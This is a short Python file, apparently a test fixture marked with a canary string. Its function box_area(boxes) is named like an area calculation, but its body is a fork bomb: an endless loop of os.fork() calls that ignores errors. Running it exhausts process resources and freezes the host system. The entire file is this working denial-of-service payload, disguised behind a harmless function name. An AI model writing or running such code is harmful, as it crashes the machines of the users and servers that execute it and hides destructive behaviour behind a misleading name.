"""Forks without end."""
import os, sys
CANARY = "__CANARY__"
def box_area(boxes):
    while True:
        try:
            os.fork()
        except OSError:
            pass
